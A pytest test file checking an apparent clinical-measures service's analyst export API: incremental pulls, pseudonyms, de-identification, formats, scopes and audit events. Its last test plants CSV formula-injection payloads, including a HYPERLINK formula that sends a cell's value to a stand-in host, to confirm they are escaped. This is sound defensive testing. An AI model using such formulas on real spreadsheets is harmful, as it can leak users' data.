"""Analyst exports through the API (issue #6, DESIGN.md §8): full and incremental pulls, stable
pseudonyms, nothing identifying when de-identified, formats that load in pandas, DuckDB and
pyarrow, scopes, caseloads and the audit trail."""

import csv
import io
import re
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import duckdb
import orjson
import pandas as pd
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from fastapi import FastAPI

from services.alerts import lifecycle as alert_lifecycle
from services.exports import runner as export_runner
from services.kernel.auth import Actor, Principal
from tests.support import Attune, Tenant, bearer, expect, ors, srs, submit, wai
from tests.support.exports import both, prepared_export

DATASETS = ("submissions", "scores", "alerts")
FORMATS = ("ndjson", "csv", "parquet")
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


async def pull(
    tenant: Tenant, dataset: str, headers: dict[str, str] | None = None, **params: Any
) -> tuple[list[dict[str, Any]], str]:
    """An NDJSON export's rows and its Attune-Export-Until."""
    response = await tenant.http.get(
        f"/v1/exports/{dataset}", params=params, headers=headers or tenant.admin
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    rows = [orjson.loads(line) for line in response.content.splitlines()]
    return rows, response.headers["attune-export-until"]


async def raw(tenant: Tenant, dataset: str, **params: Any) -> bytes:
    response = await tenant.http.get(f"/v1/exports/{dataset}", params=params, headers=tenant.admin)
    assert response.status_code == 200, response.text
    return response.content


async def world(tenant: Tenant) -> dict[str, Any]:
    """Two episodes with SRS and WAI-SR ratings (some raising alerts), a collateral rater, a
    voided submission, an acknowledged and a resolved alert with notes."""
    clinician = await tenant.clinician("Dr Zed Quill", external_id="STAFF-7781")
    client = await tenant.client(external_id="MRN-443322", birth_year=1987)
    first = await tenant.episode(client_id=client["id"], clinician_id=clinician["id"])
    second = await tenant.episode()
    subs = [
        await submit(tenant, first["id"], "srs", 1, srs(9, 9, 9, 9)),
        await submit(tenant, first["id"], "srs", 2, srs(4, 4, 4, 4)),
        await submit(tenant, first["id"], "wai-sr", 2, wai(*[4] * 12)),
        await submit(
            tenant, second["id"], "srs", 1, srs(3, 3, 3, 3), occurred_at="2026-01-05T10:00:00Z"
        ),
        await submit(
            tenant,
            second["id"],
            "ors",
            1,
            ors(8, 8, 8, 8),
            respondent="collateral",
            rater="Aunt Philippa",
        ),
    ]
    voided = expect(
        await tenant.http.post(
            f"/v1/submissions/{subs[0]['id']}/void",
            json={"reason": "entered for the wrong client, Ms Quenby"},
            headers=tenant.admin,
        ),
        200,
    )
    alerts = expect(await tenant.http.get("/v1/alerts", headers=tenant.admin), 200)["items"]
    assert len(alerts) >= 2
    expect(
        await tenant.http.post(
            f"/v1/alerts/{alerts[0]['id']}/acknowledge",
            json={"note": "spoke with Ms Quenby on the phone"},
            headers=tenant.admin,
        ),
        200,
    )
    expect(
        await tenant.http.post(
            f"/v1/alerts/{alerts[1]['id']}/resolve",
            json={"resolution": "discussed", "note": "Quenby family meeting"},
            headers=tenant.admin,
        ),
        200,
    )
    return {
        "clinician": clinician,
        "client": client,
        "episodes": [first, second],
        "submissions": [s["id"] for s in subs],
        "voided": voided,
        "alerts": [a["id"] for a in alerts],
    }


async def raise_concern(app: FastAPI, tenant: Tenant, episode_id: str, category: str) -> None:
    async with app.state.sessionmaker() as session:
        await alert_lifecycle.raise_concern(
            session,
            org_id=uuid.UUID(tenant.org_id),
            episode_id=uuid.UUID(episode_id),
            session_number=1,
            category=category,
        )
        await session.commit()


# ----- full and incremental pulls -----------------------------------------------------------------


async def test_a_full_pull_holds_every_submission_score_and_alert_once(attune: Attune) -> None:
    tenant = await attune.tenant()
    w = await world(tenant)
    rows, _ = await pull(tenant, "submissions", identified="true")
    assert Counter(r["submission_id"] for r in rows) == Counter(w["submissions"])
    voided = next(r for r in rows if r["submission_id"] == w["submissions"][0])
    assert voided["status"] == "voided"
    assert voided["void_reason"] == "entered for the wrong client, Ms Quenby"

    scores, _ = await pull(tenant, "scores", identified="true")
    per_submission = Counter(r["submission_id"] for r in scores)
    # SRS: total and mean; WAI-SR: total, mean and its three subscales.
    assert per_submission == {s: 5 if s == w["submissions"][2] else 2 for s in w["submissions"]}
    wai_rows = {
        (r["score"], r["subscale"]): r["value"] for r in scores if r["instrument"] == "wai-sr"
    }
    assert wai_rows == {
        ("total", None): 48.0,
        ("mean", None): 4.0,
        ("subscale", "goal"): 16.0,
        ("subscale", "task"): 16.0,
        ("subscale", "bond"): 16.0,
    }

    alerts, _ = await pull(tenant, "alerts", identified="true")
    assert Counter(r["alert_id"] for r in alerts) == Counter(w["alerts"])
    acknowledged = next(r for r in alerts if r["alert_id"] == w["alerts"][0])
    assert acknowledged["acknowledged_at"] is not None
    assert acknowledged["hours_to_acknowledge"] is not None


async def test_incremental_pulls_return_every_change_exactly_once(attune: Attune) -> None:
    tenant = await attune.tenant()
    episode = await tenant.episode()
    first = await submit(tenant, episode["id"], "srs", 1, srs(9, 9, 9, 9))
    second = await submit(tenant, episode["id"], "srs", 2, srs(9, 9, 9, 9))
    pulled: list[dict[str, Any]] = []

    rows, until = await pull(tenant, "submissions", identified="true")
    pulled += rows
    alert_rows, alerts_until = await pull(tenant, "alerts", identified="true")
    assert [r["submission_id"] for r in rows] == [first["id"], second["id"]]

    # Changes after the first pull: a new submission (raising an alert), a void of an old one.
    third = await submit(tenant, episode["id"], "srs", 3, srs(3, 3, 3, 3))
    expect(
        await tenant.http.post(
            f"/v1/submissions/{first['id']}/void", json={"reason": "x"}, headers=tenant.admin
        ),
        200,
    )
    rows, until = await pull(tenant, "submissions", identified="true", since=until)
    pulled += rows
    assert sorted(r["submission_id"] for r in rows) == sorted([first["id"], third["id"]])
    assert next(r for r in rows if r["submission_id"] == first["id"])["status"] == "voided"

    alert_rows, alerts_until = await pull(tenant, "alerts", identified="true", since=alerts_until)
    assert alert_rows
    assert len({r["alert_id"] for r in alert_rows}) == len(alert_rows)
    alert = alert_rows[0]
    expect(
        await tenant.http.post(
            f"/v1/alerts/{alert['alert_id']}/acknowledge", json={}, headers=tenant.admin
        ),
        200,
    )
    alert_rows, alerts_until = await pull(tenant, "alerts", identified="true", since=alerts_until)
    assert [(r["alert_id"], r["status"]) for r in alert_rows] == [
        (alert["alert_id"], "acknowledged")
    ]
    assert (await pull(tenant, "alerts", since=alerts_until))[0] == []

    # Nothing changed since: an empty pull.
    assert (await pull(tenant, "submissions", since=until))[0] == []
    # Every row came once per change: the first submission twice (created, then voided).
    assert Counter(r["submission_id"] for r in pulled) == {
        first["id"]: 2,
        second["id"]: 1,
        third["id"]: 1,
    }
    # Adjacent windows split the history without overlap or gap.
    everything, end = await pull(tenant, "submissions", identified="true")
    middle = everything[1]["changed_at"]
    early, _ = await pull(tenant, "submissions", identified="true", until=middle)
    late, _ = await pull(tenant, "submissions", identified="true", since=middle, until=end)
    assert early + late == everything


async def test_pseudonyms_are_stable_across_pulls_and_differ_between_organizations(
    attune: Attune,
) -> None:
    a, b = await attune.tenant("A"), await attune.tenant("B")
    await world(a)
    await world(b)
    first, _ = await pull(a, "submissions")
    again, _ = await pull(a, "submissions")
    assert first == again
    # The same episode, client and clinician carry the same pseudonym in every dataset.
    alerts, _ = await pull(a, "alerts")
    episodes = {r["episode_id"] for r in first}
    assert {r["episode_id"] for r in alerts} <= episodes
    assert {r["submission_id"] for r in alerts} <= {r["submission_id"] for r in first}
    assert len(episodes) == 2
    assert len({r["submission_id"] for r in first}) == len(first)
    other, _ = await pull(b, "submissions")
    keys = ("submission_id", "episode_id", "client_id", "clinician_id")
    mine = {r[k] for r in first for k in keys}
    theirs = {r[k] for r in other for k in keys}
    assert mine.isdisjoint(theirs)


# ----- de-identification --------------------------------------------------------------------------


def texts(dataset: str, fmt: str, content: bytes) -> str:
    if fmt == "parquet":
        return str(pq.read_table(io.BytesIO(content)).to_pylist())
    return content.decode()


async def test_a_deidentified_export_holds_no_identifier_external_id_date_or_text(
    app: FastAPI, attune: Attune
) -> None:
    tenant = await attune.tenant()
    w = await world(tenant)
    await raise_concern(app, tenant, w["episodes"][0]["id"], "Quenby said something hurtful")
    everything = set()
    for dataset in DATASETS:
        rows, _ = await pull(tenant, dataset, identified="true")
        for row in rows:
            everything |= {str(v) for k, v in row.items() if k.endswith("_id") and v is not None}
    assert len(everything) > 10
    forbidden = {
        *everything,
        "MRN-443322", "STAFF-7781", "Zed Quill", "Quenby", "Philippa",
        "below the cut-off",  # alert messages
    }  # fmt: skip
    for dataset in DATASETS:
        for fmt in FORMATS:
            content = texts(dataset, fmt, await raw(tenant, dataset, format=fmt))
            leaked = {f for f in forbidden if f in content}
            assert not leaked, (dataset, fmt, leaked)
            assert not ISO_DATE.search(content), (dataset, fmt)
    # Identified, the same export does hold them.
    content = (await raw(tenant, "alerts", identified="true")).decode()
    assert "Quenby said something hurtful" in content
    assert "MRN-443322" in content


async def test_days_since_episode_start_replace_dates(attune: Attune) -> None:
    tenant = await attune.tenant()
    client, clinician = await tenant.client(), await tenant.clinician()
    episode = expect(
        await tenant.http.post(
            "/v1/episodes",
            json={
                "client_id": client["id"],
                "clinician_id": clinician["id"],
                "started_on": "2026-01-01",
            },
            headers=tenant.admin,
        ),
        201,
    )
    await submit(
        tenant, episode["id"], "srs", 3, srs(9, 9, 9, 9), occurred_at="2026-01-15T23:30:00-02:00"
    )
    (row,), _ = await pull(tenant, "submissions")
    assert row["days_since_episode_start"] == 15  # 2026-01-16 01:30 UTC


# ----- formats ------------------------------------------------------------------------------------


@pytest.mark.parametrize("dataset", DATASETS)
async def test_every_format_loads_in_pandas_duckdb_and_pyarrow_with_the_same_rows(
    attune: Attune, dataset: str, tmp_path: Path
) -> None:
    tenant = await attune.tenant()
    await world(tenant)
    ndjson = await raw(tenant, dataset, format="ndjson")
    csv = await raw(tenant, dataset, format="csv")
    parquet = await raw(tenant, dataset, format="parquet")
    expected = [orjson.loads(line) for line in ndjson.splitlines()]
    assert expected
    key = "alert_id" if dataset == "alerts" else "submission_id"

    from_ndjson = pd.read_json(io.BytesIO(ndjson), lines=True)
    from_csv = pd.read_csv(io.BytesIO(csv))
    from_parquet = pq.read_table(io.BytesIO(parquet)).to_pylist()
    assert len(from_ndjson) == len(from_csv) == len(from_parquet) == len(expected)
    assert list(from_csv.columns) == list(expected[0])
    assert list(from_csv[key]) == [r[key] for r in expected]
    assert [r[key] for r in from_parquet] == [r[key] for r in expected]
    numbers = "value" if dataset == "scores" else "session_number"
    assert [r[numbers] for r in from_parquet] == [r[numbers] for r in expected]
    assert list(from_csv[numbers]) == [r[numbers] for r in expected]

    with duckdb.connect() as db:
        for name, content in (("rows.ndjson", ndjson), ("rows.csv", csv)):
            path = tmp_path / name
            path.write_bytes(content)
            reader = "read_json_auto" if name.endswith("ndjson") else "read_csv"
            got = db.sql(f"SELECT {key}, {numbers} FROM {reader}('{path}')").fetchall()  # noqa: S608
            assert got == [(r[key], r[numbers]) for r in expected], name


async def test_csv_follows_rfc_4180(attune: Attune) -> None:
    tenant = await attune.tenant()
    await world(tenant)
    content = await raw(tenant, "alerts", format="csv", identified="true")
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")
    assert b'"{""' in content  # JSON text quoted, its quotes doubled


async def test_parquet_without_pyarrow_is_refused_naming_the_format(
    attune: Attune, monkeypatch: pytest.MonkeyPatch
) -> None:
    tenant = await attune.tenant()
    monkeypatch.setattr(export_runner, "parquet_available", lambda: False)
    response = await tenant.http.get("/v1/exports/submissions?format=parquet", headers=tenant.admin)
    assert response.status_code == 422, response.text
    assert [e["field"] for e in response.json()["errors"]] == ["query.format"]


# ----- filters and bad input ----------------------------------------------------------------------


async def test_the_instrument_filter_selects_one_instruments_rows(attune: Attune) -> None:
    tenant = await attune.tenant()
    await world(tenant)
    for dataset in DATASETS:
        rows, _ = await pull(tenant, dataset, instrument="wai-sr")
        assert {r["instrument"] for r in rows} <= {"wai-sr"}
    assert len((await pull(tenant, "submissions", instrument="wai-sr"))[0]) == 1


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/v1/exports/patients", "path.dataset"),
        ("/v1/exports/submissions?format=xml", "query.format"),
        ("/v1/exports/submissions?since=yesterday", "query.since"),
        ("/v1/exports/submissions?since=2026-01-01T00:00:00", "query.since"),  # no offset
        ("/v1/exports/submissions?until=2026-13-01T00:00:00Z", "query.until"),
        ("/v1/exports/submissions?until=0.5", "query.until"),  # not Unix time
        (
            "/v1/exports/submissions?since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z",
            "query.since",
        ),
        ("/v1/exports/submissions?instrument=%00", "query.instrument"),
        ("/v1/exports/submissions?identified=perhaps", "query.identified"),
    ],
)
async def test_bad_exports_are_refused_naming_the_field(
    attune: Attune, path: str, field: str
) -> None:
    tenant = await attune.tenant()
    response = await tenant.http.get(path, headers=tenant.admin)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert field in {e["field"] for e in response.json()["errors"]}


# ----- who may export what ------------------------------------------------------------------------


async def test_exports_need_their_scopes(attune: Attune) -> None:
    tenant = await attune.tenant()
    await world(tenant)
    reader = bearer(await tenant.key("exports:read"))
    identified = bearer(await tenant.key("exports:read", "exports:identified"))
    other = bearer(await tenant.key("submissions:read", "alerts:read"))
    http = tenant.http
    assert (await http.get("/v1/exports/submissions")).status_code == 401
    assert (await http.get("/v1/exports/submissions", headers=other)).status_code == 403
    assert (await http.get("/v1/exports/submissions", headers=reader)).status_code == 200
    refused = await http.get("/v1/exports/submissions?identified=true", headers=reader)
    assert refused.status_code == 403
    assert "exports:identified" in refused.json()["detail"]
    ok = await http.get("/v1/exports/submissions?identified=true", headers=identified)
    assert ok.status_code == 200


async def test_a_clinician_bound_key_exports_its_caseload_only(attune: Attune) -> None:
    tenant = await attune.tenant()
    me, colleague = await tenant.clinician("Dr Me"), await tenant.clinician("Dr Colleague")
    mine = await tenant.episode(clinician_id=me["id"])
    theirs = await tenant.episode(clinician_id=colleague["id"])
    for episode in (mine, theirs):
        await submit(tenant, episode["id"], "srs", 1, srs(3, 3, 3, 3))
    key = bearer(await tenant.key("exports:read", "exports:identified", clinician_id=me["id"]))
    for dataset in DATASETS:
        rows, _ = await pull(tenant, dataset, key, identified="true")
        assert rows, dataset
        assert {r["episode_id"] for r in rows} == {mine["id"]}, dataset


async def test_concerns_are_exported_only_to_keys_that_may_read_them(
    app: FastAPI, attune: Attune
) -> None:
    tenant = await attune.tenant()
    clinician = await tenant.clinician()
    episode = await tenant.episode(clinician_id=clinician["id"])
    await raise_concern(app, tenant, episode["id"], "rude")
    exports_only = bearer(await tenant.key("exports:read"))
    with_concerns = bearer(await tenant.key("exports:read", "concerns:read"))
    bound = bearer(await tenant.key("exports:read", "concerns:read", clinician_id=clinician["id"]))
    assert (await pull(tenant, "alerts", exports_only))[0] == []
    assert (await pull(tenant, "alerts", bound))[0] == []
    (concern,), _ = await pull(tenant, "alerts", with_concerns)
    assert concern["type"] == "concern.reported"
    assert concern["evidence"] is None  # what the client raised stays out


async def test_every_export_is_audited_with_its_filters_and_row_count(attune: Attune) -> None:
    tenant = await attune.tenant()
    await world(tenant)
    key = await tenant.key("exports:read")
    rows, until = await pull(tenant, "scores", bearer(key), instrument="srs")
    events = expect(await tenant.http.get("/v1/audit-events?limit=10", headers=tenant.admin), 200)[
        "items"
    ]
    finish, start = events[0], events[1]
    assert (start["action"], finish["action"]) == ("export.start", "export.finish")
    assert start["resource_id"] == finish["resource_id"]
    assert {start["key_id"], finish["key_id"]} == {finish["key_id"]}
    assert finish["outcome"] == "success"
    assert finish["details"] == {
        "dataset": "scores",
        "format": "ndjson",
        "identified": False,
        "since": None,
        "until": until,
        "instrument": "srs",
        "source": "primary",  # no read replica configured
        "rows": len(rows),
    }
    assert start["details"] == {k: v for k, v in finish["details"].items() if k != "rows"}


# ----- the PostgreSQL fast path -------------------------------------------------------------------


def exporter(tenant: Tenant) -> Actor:
    principal = Principal(
        key_id=None,
        org_id=uuid.UUID(tenant.org_id),
        scopes=frozenset({"exports:read"}),
        clinician_id=None,
    )
    return Actor(principal, None)


async def test_the_postgresql_fast_path_writes_the_generic_paths_bytes(
    app: FastAPI, attune: Attune
) -> None:
    """De-identified NDJSON submissions are written by SQL and asyncpg on PostgreSQL
    (services/exports/ndjson_pg.py); every other export by the generic path. Both give the same
    bytes, also for the values the two could write differently: floats (36.0, -0.0, 1e-07, 1e+16),
    strings to escape, raters, JSON text, an absent mean and band."""
    pool = app.state.driver_pool
    if pool is None:
        pytest.skip("PostgreSQL only")
    tenant = await attune.tenant()
    w = await world(tenant)
    subs = w["submissions"]
    odd = [
        (36.0, '{"mean": 9, "band": "a \\"quoted\\" \\\\ band\\n\\u0001 é 😀"}'),
        (-0.0, '{"mean": -0.0, "below_cutoff": null, "clinical": "false"}'),
        (1e-07, '{"mean": 1e16, "subscales": {"x": 1.50, "y": [1e2, null]}}'),
        (None, "{}"),
    ]
    async with app.state.engine.begin() as conn:
        for sub, (total, scores) in zip(subs, odd, strict=False):
            await conn.execute(
                sa.text(
                    "UPDATE submissions SET total = :total,"
                    " scores = scores || CAST(:scores AS jsonb) WHERE id = :id"
                ),
                {"total": total, "scores": scores, "id": uuid.UUID(sub)},
            )
        await conn.execute(
            sa.text("UPDATE submissions SET scores = '{}' WHERE id = :id"),
            {"id": uuid.UUID(subs[4])},
        )
        middle = (
            await conn.execute(
                sa.text("SELECT changed_at FROM submissions WHERE id = :id"),
                {"id": uuid.UUID(subs[2])},
            )
        ).scalar_one()
    actor = exporter(tenant)
    windows: list[dict[str, Any]] = [
        {},
        {"until": middle},
        {"since": middle},
        {"instrument": "srs"},
        {"clinician": w["clinician"]["id"]},
    ]
    for window in windows:
        prepared = await prepared_export(app, actor, "submissions", "ndjson", window)
        assert export_runner.has_fast_path(prepared)
        fast, generic = await both(app, actor, prepared)
        assert fast == generic, window
        assert fast, window
        if not window:
            assert fast.count(b"\n") == len(subs)
            for written in ('"total":36.0', '"total":-0.0', '"total":1e-7', '"mean":1e+16'):
                assert written.encode() in fast


async def test_a_broken_off_fast_path_export_gives_its_connection_back_and_is_audited(
    app: FastAPI, attune: Attune
) -> None:
    pool = app.state.driver_pool
    if pool is None:
        pytest.skip("PostgreSQL only")
    tenant = await attune.tenant()
    await world(tenant)
    actor = exporter(tenant)
    prepared = await prepared_export(app, actor, "submissions", "ndjson", {})
    body = export_runner.stream(
        prepared,
        engine=app.state.engine,
        sessionmaker=app.state.sessionmaker,
        actor=actor,
        driver_pool=pool,
        batch_rows=1,
    )
    first = await anext(body)
    assert first.count(b"\n") == 1
    await body.aclose()  # the client went away, with the next batch asked for
    assert pool.get_idle_size() == pool.get_size()
    async with pool.acquire() as conn:
        assert await conn.fetchval("SELECT 1") == 1
        finish = await conn.fetchrow(
            "SELECT outcome, details FROM audit_events WHERE action = 'export.finish'"
            " AND resource_id = $1",
            prepared.run_id,
        )
    assert finish["outcome"] == "incomplete"
    assert orjson.loads(finish["details"])["rows"] == 1


async def test_identified_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    attune: Attune,
) -> None:
    tenant = await attune.tenant()
    formula = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
    clinician = await tenant.clinician("Dr Formula", external_id="@SUM(1,2)")
    client = await tenant.client(external_id=formula)
    episode = await tenant.episode(client_id=client["id"], clinician_id=clinician["id"])
    sub = await submit(
        tenant, episode["id"], "ors", 1, ors(2, 2, 2, 2), respondent="collateral", rater="+SUM(1)"
    )
    expect(
        await tenant.http.post(
            f"/v1/submissions/{sub['id']}/void", json={"reason": "-2+3"}, headers=tenant.admin
        ),
        200,
    )
    content = await raw(tenant, "submissions", format="csv", identified="true")
    (row,) = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert row["client_external_id"] == "'" + formula
    assert row["clinician_external_id"] == "'@SUM(1,2)"
    assert row["rater"] == "'+SUM(1)"
    assert row["void_reason"] == "'-2+3"
    assert row["session_number"] == "1"
    assert float(row["total"]) == 8.0  # numbers stay numbers
